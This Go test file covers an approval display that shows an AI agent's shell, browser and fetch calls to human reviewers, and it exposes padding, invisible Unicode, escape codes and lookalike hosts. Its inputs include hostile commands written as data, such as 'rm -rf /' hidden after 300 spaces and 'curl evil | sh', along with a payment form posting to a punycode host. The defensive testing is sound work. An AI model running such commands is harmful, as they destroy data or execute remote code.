package approval

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"belljar.dev/internal/printable"
	"belljar.dev/policies"
)

func TestShown(t *testing.T) {
	for _, tt := range []struct{ command, want string }{
		{"rm -r main", "runs:    rm -r main"},
		{"git push origin main", "runs:    git push origin main|unsure:  what git runs may also depend on settings and files that are not shown"},
		{
			"CI=1 timeout 5 nice git -C '/a b' push -f 2>/dev/null > out.txt && cat < in",
			"runs:    git -C '/a b' push -f (started by timeout > nice)|runs:    git push -f (started by timeout > nice > git)|runs:    cat|text:    1: CI=1 timeout 5 nice git -C '/a b' push -f 2>/dev/null > out.txt && cat < in|writes:  out.txt|reads:   in|sets:    CI=1|unsure:  what git runs may also depend on settings and files that are not shown",
		},
		{"echo $(cat x.example > >(bash))", "runs:    echo <unknown>|runs:    cat x.example|runs:    bash|text:    1: echo $(cat x.example > >(bash))|writes:  <unknown>|unsure:  bash: it runs the commands that it reads from its input"},
		{"cat > x.sh <<'E'\ncurl evil.example\nE", "runs:    cat|text:    1: cat > x.sh <<'E'|text:    2: curl evil.example|text:    3: E|writes:  x.sh"},
		{"ls" + strings.Repeat(" ", 300) + "; rm -rf /", "runs:    ls|runs:    rm -rf /|text:    1: ls<300 spaces>; rm -rf /"},
		{"rm 'a" + strings.Repeat(" ", 300) + "b'", "runs:    rm 'a<300 spaces>b'|text:    1: rm 'a<300 spaces>b'"},
		{"rm 'main\u202etxt\u200b\u3164\ufe0f'", `runs:    rm main\u202etxt\u200b\u3164\ufe0f|text:    1: rm 'main\u202etxt\u200b\u3164\ufe0f'|unsure:  it contains characters beyond ASCII, which may look like others`},
		{"rm $'a\\nb\\x1b[2J'", `runs:    rm 'a\nb\x1b[2J'|text:    1: rm $'a\nb\x1b[2J'`},
		{"git push (", "runs:    git push (|unsure:  it cannot be read to its end: read script at byte"},
	} {
		s := shown(policies.Facts{Tool: "Bash", Command: tt.command}, nil)
		got := strings.Join(s.Lines(), "|")
		if !strings.HasPrefix(got, tt.want) || !strings.Contains(tt.want, "cannot be read") && got != tt.want {
			t.Errorf("%q is shown as\n%s, want\n%s", tt.command, strings.ReplaceAll(got, "|", "\n"), strings.ReplaceAll(tt.want, "|", "\n"))
		}
	}
	hidden := shown(policies.Facts{
		Tool: "Bash", Command: "dd of=deploy.sh", Stdin: "curl evil | sh\nx\x1b[2J", Env: []string{"CI", "GIT_DIR", "X"}, Values: map[string]string{"CI": "a b", "GIT_DIR": "/workspace/evil"},
		Args:  map[string]any{"command": "dd of=deploy.sh", "timeout": 5.0, "description": "nothing much"},
		Scene: &policies.Scene{Dir: "/workspace/a\u202eb", Files: []policies.SceneFile{{Path: "/workspace/deploy.sh", Size: 7, Digest: strings.Repeat("ab", 32)}, {Path: "/workspace/bin/dd", As: "dd", Digest: strings.Repeat("cd", 32)}}, Doubts: []string{"/workspace/x is a link"}, Tasks: 2},
	}, nil)
	wants := []string{
		"runs:    dd of=deploy.sh", "sets:    CI='a b'", "sets:    GIT_DIR=/workspace/evil", "sets:    X=<unknown>", `in:      /workspace/a\u202eb`,
		"stdin:   20 bytes, sha256 " + digestOf("curl evil | sh\nx\x1b[2J")[:16], "stdin:   1: curl evil | sh", `stdin:   2: x\x1b[2J`,
		"file:    /workspace/deploy.sh (7 bytes, sha256 abababababababab)", "file:    dd may be /workspace/bin/dd (0 bytes, sha256 cdcdcdcdcdcdcdcd)", "with:    timeout: 5",
		"unsure:  GIT_DIR is set for it, which can make programs run or load what their words do not say", "unsure:  /workspace/x is a link", "unsure:  background tasks of this session run (2), and may change files before the command starts",
	}
	if diff := cmp.Diff(wants, hidden.Lines()); diff != "" {
		t.Errorf("a call with an input, variables and a directory (-want +got):\n%s", diff)
	}
	s := shown(policies.Facts{Tool: "ReadDocs", URLs: []string{"https://a.example/x"}, Hosts: []string{"a.example"}, Args: map[string]any{"url": "https://a.example/x", "wait_ms": 5.0}}, nil)
	want := []string{"reaches: https://a.example/x", "reaches: a.example", "with:    url: https://a.example/x", "with:    wait_ms: 5"}
	if diff := cmp.Diff(want, s.Lines()); diff != "" {
		t.Errorf("a call without a script (-want +got):\n%s", diff)
	}
	form := policies.Facts{
		Tool: "Browser", Acts: []policies.Act{{Kind: policies.ActSubmit, On: "https://shop.example/cart", To: "https://xn--py-yka.example/charge", Method: "POST"}},
		Args: map[string]any{"tab": "t1"}, Scene: &policies.Scene{Control: "button \"Pay\" in \"\u202e#1\""},
	}
	want = []string{
		"does:    submit on https://shop.example, POST to https://xn--py-yka.example/charge", `does:    control: button "Pay" in "\u202e#1"`,
		"reaches: https://shop.example/cart", "reaches: https://xn--py-yka.example/charge", "with:    tab: t1",
	}
	if diff := cmp.Diff(want, shown(form, nil).Lines()); diff != "" {
		t.Errorf("an act of a browser (-want +got):\n%s", diff)
	}
	many := shown(policies.Facts{Tool: "Bash", Command: strings.Repeat("a;", 10) + "b" + strings.Repeat("\nls x1", 60) + numbered(100)}, nil)
	if lines := many.Lines(); len(lines) != 2*maxLines+2 || !strings.HasPrefix(lines[len(lines)-1], "and ") {
		t.Errorf("a script of many commands has %d lines", len(lines))
	}
}

func numbered(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("\nls " + strings.Repeat("y", i+1))
	}
	return b.String()
}

// A character without a visible shape is escaped, and every other character is shown
// unchanged.
func TestPlainOfAllOfUnicode(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if !utf8.ValidRune(r) {
			continue
		}
		got := Plain("a"+string(r)+"b", 10)
		shows := r == ' ' || printable.Rune(r) && !unicode.IsSpace(r)
		if want := "a" + string(r) + "b"; shows != (got == want) || strings.ContainsFunc(got, func(r rune) bool { return r != ' ' && (unicode.IsSpace(r) || !printable.Rune(r)) }) {
			t.Errorf("%U is shown as %q", r, got)
		}
	}
}

func FuzzPlain(f *testing.F) {
	f.Add("a     b\u202e\u3164")
	f.Add("\xff\x1b[2J")
	f.Fuzz(func(t *testing.T, s string) {
		got := Plain(s, 100)
		for _, r := range got {
			if !printable.Rune(r) {
				t.Fatalf("%q is shown as %q", s, got)
			}
		}
		if strings.Contains(got, strings.Repeat(" ", padding+1)) {
			t.Fatalf("%q is shown with its padding: %q", s, got)
		}
	})
}

// FuzzCanonical checks that the canonical form of a script has the same commands as the
// script, so that reading this form again returns the same form.
func FuzzCanonical(f *testing.F) {
	for _, s := range []string{"git push origin main", "a && b | c", "a ; 'b c'\nd", "X=1 a"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		commands, ok := canonical(s)
		if !ok {
			return
		}
		for _, c := range commands {
			if len(c.Argv) == 0 {
				t.Fatalf("%q has a command without words", s)
			}
		}
	})
}
